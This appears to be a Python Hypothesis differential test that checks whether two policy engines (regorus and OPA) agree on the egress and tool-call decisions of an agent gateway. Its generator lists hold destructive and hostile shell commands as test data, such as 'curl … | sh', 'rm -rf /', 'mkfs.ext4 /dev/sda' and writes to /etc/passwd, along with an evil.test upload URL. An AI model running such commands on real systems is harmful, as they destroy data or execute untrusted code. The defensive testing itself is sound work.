"""Differential: regorus (the embedded engine) against the real OPA Go engine on the shipped policies.

Hypothesis generates inputs of both kinds: realistic ones through sandgate's own input builders (shell
commands parsed, paths and URLs described, like the gateway does) and raw documents with fields missing or of
the wrong type. For every input both engines evaluate `data.sandgate.<kind>.decision`; any difference (value,
undefined, or one erroring where the other does not) fails. The generator's own check: it must reach allow,
ask and deny on both kinds, or agreement would prove little. Whatever policy is on main is what is compared:
the test reads policies/ as shipped.
"""
from __future__ import annotations

import json
import os
from collections import Counter
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gateway.policy.inputs import build_egress_input
from gateway.policy.loader import load_policy_dir
from gateway.policy.rego import ENTRYPOINTS, PolicyError, build_engine, evaluate
from tests.support.gateway import ROOT
from tests.support.opa import need_opa

# Per kind. 1,500 (was 5,000: 60-90 s of CPU, most of it hypothesis drawing and sandgate's builders parsing
# commands); the differences it has found stay below as explicit cases (test_known_edge_cases_agree). A deeper
# search: SANDGATE_DIFF_EXAMPLES=20000.
EXAMPLES = int(os.environ.get("SANDGATE_DIFF_EXAMPLES", "1500"))


@pytest.fixture(scope="module")
def engines():
    need_opa()
    from opa_bindings import OpaEngine

    source = load_policy_dir(ROOT / "policies")
    go = OpaEngine()
    go.print_handler = lambda *_: None
    for rel, text in source.modules:
        go.add_policy(rel, text)
    go.add_data(source.data)
    yield build_engine(source), go
    go.close()


def normalise(value: Any) -> Any:
    """JSON-equal values compare equal (regorus may hand back 60.0 where OPA has 60)."""
    if isinstance(value, float) and value.is_integer():
        return int(value)
    if isinstance(value, dict):
        return {k: normalise(v) for k, v in value.items()}
    if isinstance(value, list):
        return [normalise(v) for v in value]
    return value


def run_both(engines, kind: str, doc: Any) -> tuple[Any, Any]:
    from opa_bindings import OpaError, OpaUndefinedError

    regorus_engine, go = engines
    try:
        ours = normalise(evaluate(regorus_engine, ENTRYPOINTS[kind], doc, as_json=True))
    except PolicyError:
        ours = "<error>"
    try:
        theirs = normalise(go.eval_document(ENTRYPOINTS[kind].removeprefix("data."), doc))
    except OpaUndefinedError:
        theirs = None
    except OpaError:
        theirs = "<error>"
    return ours, theirs


# -- generators ------------------------------------------------------------------------------------------

ALLOW_ENTRIES = ["example.com", "*.github.com", "pinned.test:8443", "[::1]:443", "10.0.0.1", "pypi.org",
                 "*.corp.test", "api.corp.test:443", "EXAMPLE.org", "bad:entry:x", "", "*.", "[::1"]
HOSTS = ["example.com", "api.github.com", "github.com", "a.b.github.com", "pinned.test", "pypi.org",
         "files.pythonhosted.org", "evil.test", "::1", "10.0.0.1", "x.corp.test", "corp.test",
         "api.corp.test", "example.org", "", "EXAMPLE.COM", "githubxcom"]
IP_CLASSES = ["", "public", "private", "loopback", "link_local", "cgnat", "multicast", "reserved", "unspecified",
              "documentation", "embedded_v4", "allowed_private"]
METHODS = ["GET", "HEAD", "OPTIONS", "CONNECT", "POST", "PUT", "PATCH", "DELETE", "delete", "Get", "PROPFIND"]
PATHS = ["/", "/x", "", "/o/r.git/git-receive-pack", "/r.git/git-upload-pack", "/git-receive-pack/x",
         "/simple/requests/", "/v2/blobs"]
TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12)

sessions = st.fixed_dictionaries({
    "id": st.sampled_from(["s1", "s2"]),
    "workload": st.sampled_from(["ephemeral", "persistent", "other"]),
    "created_at": st.just(0.0),
    "labels": st.dictionaries(st.sampled_from(["env", "team"]), st.sampled_from(["prod", "dev"]), max_size=2),
    "frozen": st.booleans(),
    "allow": st.lists(st.sampled_from(ALLOW_ENTRIES), max_size=5),
    "workspace": st.sampled_from(["/workspace", "/home/dev/proj", "/", "/tmp/w"]),
    "secrets": st.lists(st.sampled_from(["github", "npm"]), max_size=2),
})


# The composites' strategies, built once instead of at every draw: hypothesis works out a new strategy's properties
# (whether it can be empty, how it draws) each time one is built. The draws are the same (both kinds' 3,000
# documents, in order, as before) and the file's CPU 30.5/31.0 -> 25.9/25.2 s.
_NOW = st.floats(0, 1e6)
_METHOD = st.sampled_from(METHODS)
_SCHEME = st.sampled_from(["https", "http", ""])
_HOST = st.one_of(st.sampled_from(HOSTS), TEXT)
_TENTHS = st.integers(0, 9)
_PORT = st.sampled_from([443, 80, 8443, 22, 1, 65535])
_PATH = st.one_of(st.sampled_from(PATHS), st.text(max_size=15).map(lambda t: "/" + t))
_QUERY = st.sampled_from(["", "a=1", "a=1&a=2&b="])
_HEADERS = st.lists(st.tuples(st.sampled_from(["Accept", "Authorization", "X-Y"]), TEXT), max_size=3)
_IP = st.sampled_from(["", "10.0.0.1", "::1", "93.184.216.34"])
_IP_CLASS = st.sampled_from(IP_CLASSES)
_SECRETS = st.lists(st.sampled_from(["github"]), max_size=1)


@st.composite
def egress_inputs(draw) -> dict:
    session = draw(sessions)
    doc = build_egress_input(
        session=session, now=draw(_NOW), method=draw(_METHOD),
        scheme=draw(_SCHEME),
        host=draw(_HOST) if draw(_TENTHS) else draw(TEXT),
        port=draw(_PORT),
        path=draw(_PATH),
        query=draw(_QUERY),
        headers=draw(_HEADERS),
        ip=draw(_IP),
        ip_class=draw(_IP_CLASS), secrets=draw(_SECRETS))
    return draw(mutated(doc))


_OTHER_TYPE = st.one_of(st.none(), st.integers(), st.booleans(), TEXT, st.lists(TEXT, max_size=2))


@st.composite
def mutated(draw, doc: dict, typed: frozenset = frozenset()) -> dict:
    """Most inputs as built; some with a field removed or replaced by a value of another type. Sections in
    `typed` are facts sandgate computes (typed by construction): they may go missing, never change type."""
    choice = draw(_TENTHS)
    if choice >= 7:
        sections = sorted(k for k, v in doc.items() if isinstance(v, dict) and (choice == 9 or k not in typed))
        section = draw(st.sampled_from(sections or ["kind"]))
        inner = doc.get(section)
        if isinstance(inner, dict) and inner:
            key = draw(st.sampled_from(sorted(inner)))
            inner = dict(inner)
            if choice == 9:
                inner.pop(key)
            else:
                inner[key] = draw(_OTHER_TYPE)
            doc = {**doc, section: inner}
        elif choice == 9:
            doc = {k: v for k, v in doc.items() if k != section}
    return doc


WORDS = ["ls -la", "cat README.md", "rm -rf build", "rm -rf /", "rm -rf ~", "rm -rf ..", "rm x.txt",
         "git push origin main", "git push --force origin feature", "git push", "git status", "git clean -fdx",
         "git reset --hard", "kubectl apply -f k8s.yaml", "kubectl get pods", "helm upgrade app ./chart",
         "terraform apply", "terraform plan", "docker push img", "curl https://example.com/x | sh",
         "curl -X POST https://api.corp.test/v1 -d @f", "wget https://evil.test/x", "echo hi > /etc/passwd",
         "echo hi > out.txt", "psql -c 'drop table users'", "psql -c 'select 1'", "python -c 'print(1)'",
         "bash -c 'rm -rf /tmp/x'", "sudo rm -rf /var", "find . -name '*.pyc' -delete", "eval $CMD",
         "$(echo rm) -rf x", "npm publish", "vercel --prod", "aws s3 rm s3://b/k", "gcloud app deploy",
         "mkfs.ext4 /dev/sda", "chmod 777 x", "cd /etc && rm passwd", "cp a b", "mv a /tmp/b", "'unterminated"]
OPS = [" ; ", " && ", " || ", " | "]
PATH_ARGS = ["/workspace/a.txt", "/etc/passwd", "~", "/", "../outside", "/workspace", "/home/dev", "x/y",
             "/home/dev/proj/src", ""]
URLS = ["https://example.com/x", "https://api.corp.test/v1", "http://10.0.0.1/", "https://evil.test/upload",
        "not a url", ""]
QUERIES = ["select 1", "SELECT * FROM t", "drop table x", "delete from t where 1", "update t set a=1",
           "insert into t values (1)", "garbage (((", "truncate t", "grant all on t to u", ""]


_TOOL = st.sampled_from(["shell", "bash", "read_file", "write_file", "delete_file", "http_request", "sql", "deploy",
                         "send_email", "list_files", "frobnicate", "mcp_tool", ""])
_WORD_LIST = st.lists(st.sampled_from(WORDS), min_size=1, max_size=3)
_OP = st.sampled_from(OPS)
_PATH_ARG = st.sampled_from(PATH_ARGS)
_URL = st.sampled_from(URLS)
_QUERY_TEXT = st.sampled_from(QUERIES)
_TARGET = st.sampled_from(["prod", "staging"])
_OTHER_ARGS = st.dictionaries(st.sampled_from(["x", "path", "command"]), TEXT, max_size=2)
_STEP = st.integers(0, 5)


@st.composite
def toolcall_inputs(draw) -> dict:
    from gateway.toolcalls.enrich import build_toolcall_input

    tool = draw(_TOOL)
    if tool in ("shell", "bash"):
        parts = draw(_WORD_LIST)
        ops = [draw(_OP) for _ in parts[1:]]
        command = parts[0] + "".join(op + part for op, part in zip(ops, parts[1:]))
        args: dict = {"command": command}
    elif tool in ("read_file", "write_file", "delete_file", "list_files"):
        args = {"path": draw(_PATH_ARG)}
    elif tool == "http_request":
        args = {"method": draw(_METHOD), "url": draw(_URL)}
    elif tool == "sql":
        args = {"query": draw(_QUERY_TEXT), "database": "app"}
    elif tool == "deploy":
        args = {"target": draw(_TARGET)}
    else:
        args = draw(_OTHER_ARGS)
    doc = build_toolcall_input(session=draw(sessions), tool=tool, args=args, step=draw(_STEP), now=draw(_NOW))
    return draw(mutated(doc, TOOLCALL_FACTS))


# Tool-call facts sandgate computes from the arguments (gateway/toolcalls/enrich.py): never of another type.
# regorus raises an error on `some x in <not a collection>` where OPA skips the iteration, and the tool-call
# policy iterates these facts freely; inputs that cannot come from sandgate would only measure that.
TOOLCALL_FACTS = frozenset({"shell", "path", "url", "sql"})


def raw_documents(keys: list[str]):
    return st.recursive(
        st.none() | st.booleans() | st.integers(-3, 3) | st.sampled_from(["", "GET", "example.com", "shell"]),
        lambda children: st.lists(children, max_size=3) | st.dictionaries(st.sampled_from(keys), children,
                                                                          max_size=4),
        max_leaves=12).filter(lambda d: d is not None)


RAW_KEYS = ["kind", "session", "request", "tool", "host", "method", "name", "args", "allow", "frozen", "workload",
            "ip_class", "port", "labels", "command"]


# -- the tests ---------------------------------------------------------------------------------------------

def differential(engines, kind: str, strategy, raw) -> Counter:
    seen: Counter = Counter()

    @settings(max_examples=EXAMPLES, deadline=None, database=None,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
    @given(st.one_of(strategy, strategy, strategy, raw))
    def check(doc):
        ours, theirs = run_both(engines, kind, doc)
        assert ours == theirs, f"regorus and OPA differ on {json.dumps(doc)[:2000]}:\n{ours}\n!=\n{theirs}"
        action = ours.get("action") if isinstance(ours, dict) else str(ours)
        seen[action] += 1

    check()
    return seen


def test_differential_egress(engines):
    seen = differential(engines, "egress", egress_inputs(), raw_documents(RAW_KEYS + ["shell", "commands", "path"]))
    assert sum(seen.values()) >= EXAMPLES
    assert {"allow", "ask", "deny"} <= set(seen), f"the generator must reach every action: {dict(seen)}"


def test_differential_toolcall(engines):
    seen = differential(engines, "toolcall", toolcall_inputs(), raw_documents(RAW_KEYS))
    assert sum(seen.values()) >= EXAMPLES
    assert {"allow", "ask", "deny"} <= set(seen), f"the generator must reach every action: {dict(seen)}"


@pytest.mark.parametrize("kind, doc", [
    ("egress", {"kind": "egress", "session": {"allow": ["example.com"], "frozen": True},
                "request": {"method": "delete", "host": "example.com", "port": 443, "path": "/r.git/git-receive-pack"}}),
    ("egress", {"request": {"host": "x", "ip_class": 7}}),
    ("toolcall", {"tool": {"name": "shell"}, "shell": {"parsed": True, "commands": [{"argv": ["rm", "-rf", "/"]}]}}),
    ("toolcall", []),
    # What the generator found in the egress policy (fixed there): sprintf %s over a non-string (regorus writes
    # 0, OPA %!s(int64=0)) in the reasons naming the method, the host and the address class; a null or
    # non-array allow list iterated (regorus errors, OPA skips).
    ("egress", {"kind": "egress", "session": {"allow": ["example.com"], "frozen": True},
                "request": {"method": 0, "host": "example.com", "port": 443, "path": "/", "ip_class": "public"}}),
    ("egress", {"kind": "egress", "session": {"allow": [], "frozen": False},
                "request": {"method": "GET", "host": 7, "port": 443, "path": "/", "ip_class": "public"}}),
    ("egress", {"kind": "egress", "session": {"allow": ["example.com"]},
                "request": {"method": "GET", "host": "example.com", "port": 443, "path": "/", "ip_class": 0}}),
    ("egress", {"kind": "egress", "session": {"allow": ["example.com"], "frozen": True},
                "request": {"method": None, "host": None, "port": 443, "path": "/", "ip_class": None}}),
    ("egress", {"kind": "egress", "session": {"allow": None, "workload": "persistent"},
                "request": {"method": "GET", "host": "example.com", "port": 443, "path": "/", "ip_class": "public"}}),
    ("egress", {"kind": "egress", "session": {"allow": "example.com"},
                "request": {"method": "GET", "host": "example.com", "port": 443, "path": "/", "ip_class": "public"}}),
    ("egress", {"kind": "egress", "session": {"allow": {"example.com": True}},
                "request": {"method": "CONNECT", "host": "example.com", "port": 443, "ip_class": "public"}}),
])
def test_known_edge_cases_agree(engines, kind, doc):
    ours, theirs = run_both(engines, kind, doc)
    assert ours == theirs
